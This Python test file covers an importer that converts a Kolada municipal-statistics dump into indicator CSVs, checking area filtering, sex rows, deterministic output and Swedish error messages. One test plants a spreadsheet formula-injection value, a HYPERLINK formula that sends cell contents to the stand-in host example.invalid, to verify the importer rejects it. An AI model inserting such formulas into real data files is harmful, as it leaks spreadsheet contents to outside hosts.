"""Tests for the Kolada dump importer (trygghet.intake.kolada) on a tiny fake dump."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from tests.helpers import NO_SOURCE_YML, VALDSBROTT_YML, kolada_dump, write_files
from trygghet.cli import main
from trygghet.data.indicators import load_meta
from trygghet.data.register import load_register
from trygghet.intake.kolada import (
    COLUMNS,
    KoladaImportError,
    import_dump,
    read_dump_series,
)

SETTINGS = """\
municipality:
  code: "1980"
  name: Västerås
national:
  code: "0000"
  name: Riket
comparison_group:
  id: G1
  name: Testgrupp
  members: ["0381", "1980"]
organisation: {name: Testkommun}
contact: {name: Kontaktcenter, phone: 010-00 00 00}
"""

# geo "0" = Riket, "1980" and "0381" are configured, "0114" is a kommun that is
# not configured and "19" is a region: the last two must not be imported.
N05401_TOTAL = """\
geo,year,n05401
0,2018,84.0
0,2022,80.0
0114,2022,70.5
0381,2022,81.123456
19,2022,78.25
1980,2018,84.0
1980,2022,79.0
"""

N05401_GENDER = """\
geo,gender,year,n05401
0,k,2022,81.0
0,m,2022,79.0
0114,k,2022,71.0
1980,k,2022,80.0
1980,m,2022,77.0
19,m,2022,76.0
"""

N07403_TOTAL = """\
geo,year,n07403
0,2021,1000.5
1980,2021,962.77687
1980,2022,914.57457
0114,2022,1.0
"""

VALDELTAGANDE_YML = """\
id: valdeltagande
measure: Valdeltagande i senaste kommunalvalet
unit: procent
decimals: 1
direction: öka
definition: Testdefinition.
series:
  - id: N05401
    label: Kommunen totalt
    kolada_kpi: N05401
    by_sex: true
    main: true
"""


@pytest.fixture
def dump(tmp_path: Path) -> Path:
    """A tiny dump directory with two KPIs (one with a gender file)."""
    return kolada_dump(tmp_path / "dump", {"n05401": N05401_TOTAL, "n07403": N07403_TOTAL},
                       {"n05401": N05401_GENDER})


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    """A tiny project data dir: settings plus indicator metadata."""
    return write_files(tmp_path / "data", {
        "settings.yml": SETTINGS, "indicators/valdeltagande.yml": VALDELTAGANDE_YML,
        "indicators/anmalda-valdsbrott.yml": VALDSBROTT_YML,
        "indicators/tillit-barn.yml": NO_SOURCE_YML})


def _read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def test_writes_one_csv_per_indicator_with_series(dump: Path, data_dir: Path) -> None:
    written = import_dump(dump, data_dir, retrieved="2025-03-21")
    ind = data_dir / "indicators"
    assert sorted(written) == sorted([ind / "valdeltagande.csv", ind / "anmalda-valdsbrott.csv"])
    assert not (ind / "tillit-barn.csv").exists()


def test_column_order_is_exact(dump: Path, data_dir: Path) -> None:
    import_dump(dump, data_dir)
    header = (data_dir / "indicators/valdeltagande.csv").read_text(encoding="utf-8").split("\n")[0]
    assert header == "year,series,area_code,area_name,sex,value,source,retrieved"
    assert tuple(header.split(",")) == COLUMNS


def test_riket_becomes_0000_and_only_configured_areas(dump: Path, data_dir: Path) -> None:
    import_dump(dump, data_dir)
    df = _read(data_dir / "indicators/valdeltagande.csv")
    assert set(df["area_code"]) == {"0000", "0381", "1980"}
    names = dict(zip(df["area_code"], df["area_name"], strict=False))
    assert names == {"0000": "Riket", "0381": "Enköping", "1980": "Västerås"}
    # Neither the non-configured kommun nor the region leaks in under any code.
    assert not df["area_code"].isin(["0", "0114", "19", "0019"]).any()
    assert "70.5" not in set(df["value"]) and "78.25" not in set(df["value"])


def test_leading_zeros_kept(dump: Path, data_dir: Path) -> None:
    import_dump(dump, data_dir)
    text = (data_dir / "indicators/valdeltagande.csv").read_text(encoding="utf-8")
    assert "\n2022,N05401,0381,Enköping,T,81.123456,Kolada,2025-03-21\n" in text
    df = _read(data_dir / "indicators/valdeltagande.csv")
    assert "0381" in set(df["area_code"])
    assert "381" not in set(df["area_code"])


def test_sex_rows_from_gender_file(dump: Path, data_dir: Path) -> None:
    import_dump(dump, data_dir)
    df = _read(data_dir / "indicators/valdeltagande.csv")
    vas = df[(df["area_code"] == "1980") & (df["year"] == "2022")]
    assert dict(zip(vas["sex"], vas["value"], strict=True)) == {
        "K": "80.0",
        "M": "77.0",
        "T": "79.0",
    }
    assert set(df["sex"]) == {"T", "K", "M"}
    # A series with by_sex: false has only totals.
    assert set(_read(data_dir / "indicators/anmalda-valdsbrott.csv")["sex"]) == {"T"}


def test_rows_values_and_order(dump: Path, data_dir: Path) -> None:
    import_dump(dump, data_dir, retrieved="2024-11-01")
    lines = (data_dir / "indicators/anmalda-valdsbrott.csv").read_text(encoding="utf-8")
    assert lines == (
        "year,series,area_code,area_name,sex,value,source,retrieved\n"
        "2021,N07403,0000,Riket,T,1000.5,Kolada,2024-11-01\n"
        "2021,N07403,1980,Västerås,T,962.77687,Kolada,2024-11-01\n"
        "2022,N07403,1980,Västerås,T,914.57457,Kolada,2024-11-01\n"
    )
    df = _read(data_dir / "indicators/valdeltagande.csv")
    keys = list(zip(df["area_code"], df["sex"], df["year"].astype(int), strict=True))
    assert keys == sorted(keys)
    assert len(df) == 2 + 2 + 1 + 2 + 2  # Riket T+K/M, Enköping T, Västerås T+K/M


def test_series_follow_metadata_order(dump: Path, data_dir: Path) -> None:
    # List N07403 before N05401: metadata order must win over id order.
    extra = (
        "  - id: N07403\n    label: X\n    kolada_kpi: N07403\n    by_sex: false\n    main: false\n"
    )
    write_files(data_dir, {
        # (N07403 is a rate, so the indicator's unit must allow values over 100)
        "indicators/valdeltagande.yml": VALDELTAGANDE_YML.replace("series:\n", "series:\n" + extra)
        .replace("unit: procent", "unit: antal per 100 000 invånare"),
    })
    import_dump(dump, data_dir)
    series = _read(data_dir / "indicators/valdeltagande.csv")["series"].tolist()
    assert series == ["N07403"] * 3 + ["N05401"] * 9


def test_output_is_deterministic_utf8_lf(dump: Path, data_dir: Path) -> None:
    path = data_dir / "indicators/valdeltagande.csv"
    import_dump(dump, data_dir)
    first = path.read_bytes()
    path.write_bytes(b"garbage")
    import_dump(dump, data_dir)
    second = path.read_bytes()
    assert first == second
    assert b"\r" not in first
    assert not first.startswith(b"\xef\xbb\xbf")
    assert first.endswith(b"\n")
    assert "Västerås".encode() in first


def test_crlf_raw_files_are_read(dump: Path, data_dir: Path) -> None:
    # The real dump uses CRLF line endings; output must still use "\n" only.
    raw = dump / "datapoints_by_geo_year/ddf--datapoints--n07403--by--geo--year.csv"
    raw.write_bytes(raw.read_bytes().replace(b"\n", b"\r\n"))
    import_dump(dump, data_dir)
    out = (data_dir / "indicators/anmalda-valdsbrott.csv").read_bytes()
    assert b"\r" not in out
    assert b"2022,N07403,1980,V\xc3\xa4ster\xc3\xa5s,T,914.57457," in out


def test_missing_raw_file_raises_and_leaves_csv_untouched(dump: Path, data_dir: Path) -> None:
    import_dump(dump, data_dir)
    ind = data_dir / "indicators"
    before = {p.name: p.read_bytes() for p in ind.glob("*.csv")}
    # Remove the file of the indicator that is read LAST (valdeltagande sorts after
    # anmalda-valdsbrott), so a non-atomic importer would already have rewritten one file.
    (
        dump / "datapoints_by_geo_gender_year/ddf--datapoints--n05401--by--geo--gender--year.csv"
    ).unlink()
    (dump / "datapoints_by_geo_year/ddf--datapoints--n07403--by--geo--year.csv").write_text(
        N07403_TOTAL + "1980,2023,1.5\n", encoding="utf-8"
    )
    with pytest.raises(KoladaImportError, match="n05401--by--geo--gender--year.csv"):
        import_dump(dump, data_dir)
    after = {p.name: p.read_bytes() for p in ind.glob("*.csv")}
    assert after == before
    assert sorted(p.name for p in ind.iterdir() if p.name.endswith(".tmp")) == []


def test_missing_raw_file_message_is_swedish(dump: Path) -> None:
    with pytest.raises(KoladaImportError) as err:
        read_dump_series(dump, "N99999", ["1980"], by_sex=False)
    assert "saknas" in str(err.value)
    assert "ddf--datapoints--n99999--by--geo--year.csv" in str(err.value)


def test_missing_column_raises_naming_file(dump: Path, data_dir: Path) -> None:
    raw = dump / "datapoints_by_geo_year/ddf--datapoints--n07403--by--geo--year.csv"
    raw.write_text("geo,year,value\n1980,2022,1.0\n", encoding="utf-8")
    with pytest.raises(KoladaImportError, match=r"n07403.*saknas|saknas.*n07403"):
        import_dump(dump, data_dir)
    assert not (data_dir / "indicators/anmalda-valdsbrott.csv").exists()
    assert not (data_dir / "indicators/valdeltagande.csv").exists()


def test_read_dump_series_tidy_frame(dump: Path) -> None:
    df = read_dump_series(dump, "N05401", ["1980", "0000"], by_sex=True)
    assert list(df.columns) == ["year", "area_code", "area_name", "sex", "value"]
    assert df["year"].dtype == "int64"
    assert set(df["area_code"]) == {"1980", "0000"}
    row = df[(df["area_code"] == "0000") & (df["sex"] == "M")]
    assert row["value"].tolist() == [79.0]
    assert row["area_name"].tolist() == ["Riket"]
    totals = read_dump_series(dump, "N05401", ["1980"], by_sex=False)
    assert set(totals["sex"]) == {"T"}
    assert totals["year"].tolist() == [2018, 2022]


def test_unknown_area_raises(dump: Path) -> None:
    with pytest.raises(KoladaImportError, match="9999"):
        read_dump_series(dump, "N05401", ["9999"], by_sex=False)


# -- implausible values and unreadable raw files (issue 8, parts 5 and 7) ---------------------


def test_implausible_dump_values_name_file_kpi_area_and_year(dump: Path, data_dir: Path) -> None:
    (dump / "datapoints_by_geo_year/ddf--datapoints--n05401--by--geo--year.csv").write_text(
        N05401_TOTAL.replace("1980,2022,79.0", "1980,2022,100.5"), encoding="utf-8")
    (dump / "datapoints_by_geo_gender_year/ddf--datapoints--n05401--by--geo--gender--year.csv"
     ).write_text(N05401_GENDER.replace("0,k,2022,81.0", "0,k,2022,-5.0"), encoding="utf-8")
    (dump / "datapoints_by_geo_year/ddf--datapoints--n07403--by--geo--year.csv").write_text(
        N07403_TOTAL.replace("1980,2022,914.57457", "1980,2022,1e300"), encoding="utf-8")
    with pytest.raises(KoladaImportError) as err:
        import_dump(dump, data_dir)
    message = str(err.value)
    assert ("ddf--datapoints--n05401--by--geo--year.csv: nyckeltal N05401, område 1980, år 2022, "
            "kön T (indikatorn valdeltagande): värdet 100,5 är inte rimligt") in message
    assert ("ddf--datapoints--n05401--by--geo--gender--year.csv: nyckeltal N05401, område 0000, "
            "år 2022, kön K (indikatorn valdeltagande): värdet -5 är inte rimligt") in message
    assert "nyckeltal N07403, område 1980, år 2022, kön T" in message
    assert "mellan 0 och 100 000" in message
    assert list((data_dir / "indicators").glob("*.csv")) == []


def test_a_broken_raw_file_is_explained_in_swedish(dump: Path, data_dir: Path) -> None:
    raw = dump / "datapoints_by_geo_year/ddf--datapoints--n07403--by--geo--year.csv"
    raw.write_text(N07403_TOTAL.replace("0,2021,1000.5", "0,2021,1000.5,9"), encoding="utf-8")
    with pytest.raises(KoladaImportError) as err:
        import_dump(dump, data_dir)
    assert str(err.value) == (f"Rådatafilen {raw}, rad 2: raden har 4 fält men rubrikraden har 3")
    raw.write_bytes(b"geo,year,n07403\n1980,2022,\xff\n")
    with pytest.raises(KoladaImportError) as err:
        import_dump(dump, data_dir)
    assert "inte sparad som UTF-8" in str(err.value) and "codec" not in str(err.value)


# -- a mirror's area names and an interrupted import (issue 19, classes 1 and 4) ----------------

FORMULA_NAME = '"=HYPERLINK(""http://example.invalid/""&A1,""Klicka här"")"'


def test_an_area_name_that_is_not_the_registers_is_never_stored(dump: Path,
                                                                data_dir: Path) -> None:
    entities = dump / "entities" / "ddf--entities--geo--kommun.csv"
    entities.write_text(entities.read_text(encoding="utf-8").replace(
        "0381,Enköping", f"0381,{FORMULA_NAME}"), encoding="utf-8")
    with pytest.raises(KoladaImportError) as err:
        import_dump(dump, data_dir)
    message = str(err.value)
    assert "stämmer inte med kommunregistret" in message
    assert "område 0381 heter 'Enköping' i kommunregistret, men '=HYPERLINK(" in message
    assert list((data_dir / "indicators").glob("*.csv")) == []


def test_import_kolada_writes_every_file_or_none(data_copy: Path, tmp_path: Path,
                                                 capsys) -> None:
    # A dump with every KPI of the project but the population's: before, the indicator
    # files were rewritten and then the population step failed.
    metas = [load_meta(data_copy, p.stem) for p in (data_copy / "indicators").glob("*.yml")]
    series = [s for m in metas for s in m.series if s.kolada_kpi]
    by_year = {s.kolada_kpi.lower(): f"geo,year,{s.kolada_kpi.lower()}\n" for s in series}
    by_gender = {s.kolada_kpi.lower(): f"geo,gender,year,{s.kolada_kpi.lower()}\n"
                 for s in series if s.by_sex}
    dump = kolada_dump(tmp_path / "dump", by_year, by_gender)
    municipalities = [a for a in load_register().values() if a.type == "K"]
    (dump / "entities" / "ddf--entities--geo--kommun.csv").write_text(
        "kommun,name\n" + "".join(f"{a.code},{a.name}\n" for a in municipalities),
        encoding="utf-8")
    before = {p: p.read_bytes() for p in sorted(data_copy.rglob("*.csv"))}
    assert main(["--root", str(data_copy.parent), "import-kolada", "--dump", str(dump)]) == 1
    err = capsys.readouterr().err
    assert "n01951" in err and "Inget har skrivits" in err
    assert "webbplatsen" not in err  # the import has nothing to do with the site
    assert {p: p.read_bytes() for p in sorted(data_copy.rglob("*.csv"))} == before
